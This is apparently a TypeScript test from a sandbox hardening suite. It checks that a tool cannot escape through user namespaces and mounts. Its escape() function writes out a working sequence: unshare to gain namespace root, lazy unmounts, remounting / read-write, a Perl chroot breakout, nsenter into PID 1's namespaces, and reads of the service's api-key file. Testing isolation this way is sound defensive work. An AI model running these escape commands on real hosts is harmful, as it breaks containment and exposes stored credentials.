import { randomBytes } from 'node:crypto';
import { existsSync, rmSync } from 'node:fs';
import { type Attack, everywhere, held } from '../attack.js';

export const mountsAndNamespaces: Attack = {
  name: 'mounts-and-namespaces',
  finding: 'held',
  what: "Bob's tool makes itself root of a user namespace, takes mounts away, makes the system writable and leaves its root.",
  expected: everywhere(
    held('nothing outside of the sandbox is written, no file of the service is uncovered'),
  ),
  run: async ({ bob, dataDir }) => {
    const mark = `hostile-${randomBytes(6).toString('hex')}`;
    const { output } = await bob.sh(escape(mark, dataDir), 60);
    const written = ['/usr', '/etc', '/opt', '/', dataDir].filter((folder) => {
      const file = `${folder}/${mark}`;
      const isThere = existsSync(file);
      rmSync(file, { force: true });
      return isThere;
    });
    const uncovered = output.includes('UNCOVERED');
    const inside = /ROOT OF A NAMESPACE/.test(output);
    return {
      held: written.length === 0 && !uncovered,
      seen: `it ${inside ? 'became' : 'could not become'} root of a user namespace; written outside: ${written.join(', ') || 'nothing'}; keys of the service: ${uncovered ? 'read' : 'not there'}`,
    };
  },
};

/** Each line on its own: what fails does not stop the next. */
function escape(mark: string, dataDir: string): string {
  const look = `head -c 1 '${dataDir}/api-key' > /dev/null 2>&1 && echo UNCOVERED`;
  const write = `for d in /usr /etc /opt / '${dataDir}'; do touch $d/${mark} 2> /dev/null; done`;
  const parents = dataDir.split('/').map((_, index, parts) => parts.slice(0, index + 1).join('/') || '/');
  const inside = [
    'echo ROOT OF A NAMESPACE',
    ...parents.map((folder) => `umount -l '${folder}' 2> /dev/null; umount '${folder}' 2> /dev/null`),
    look,
    'mount -o remount,rw / 2> /dev/null; mount -o remount,bind,rw / 2> /dev/null; mount -o remount,bind,rw /usr 2> /dev/null',
    write,
    'mkdir -p /tmp/m /tmp/p; mount --rbind / /tmp/m 2> /dev/null; mount -o remount,bind,rw /tmp/m 2> /dev/null; touch /tmp/m/usr/' +
      `${mark} 2> /dev/null`,
    `head -c 1 "/tmp/m${dataDir}/api-key" > /dev/null 2>&1 && echo UNCOVERED`,
    'mount -t proc proc /tmp/p 2> /dev/null; mount -t sysfs sysfs /tmp/p 2> /dev/null; mount -t cgroup2 none /tmp/p 2> /dev/null',
    `for p in /proc/[0-9]*; do head -c 1 "$p/root${dataDir}/api-key" > /dev/null 2>&1 && echo UNCOVERED; done`,
    // A root in a root, left through a folder that was opened before.
    `perl -e 'mkdir "/tmp/jail"; chdir "/"; chroot "/tmp/jail"; chdir ".." for 1..64; chroot "."; open(F, "<", "${dataDir}/api-key") and print "UNCOVERED\\n"; open(G, ">", "/usr/${mark}")' 2> /dev/null`,
    'for n in mnt pid net user ipc uts; do nsenter --$n=/proc/1/ns/$n true 2> /dev/null; done',
    `nsenter --mount=/proc/1/ns/mnt sh -c "${look}; touch /usr/${mark}" 2> /dev/null`,
  ].join('\n');
  return [
    `nsenter --target 1 --all sh -c "${look}; touch /usr/${mark}" 2> /dev/null`,
    look,
    write,
    `cat > /tmp/escape.sh <<'ESCAPE'\n${inside}\nESCAPE`,
    'unshare --user --map-root-user --mount --pid --fork --net sh /tmp/escape.sh 2>&1 || unshare --user --map-root-user --mount sh /tmp/escape.sh 2>&1',
    'true',
  ].join('\n');
}
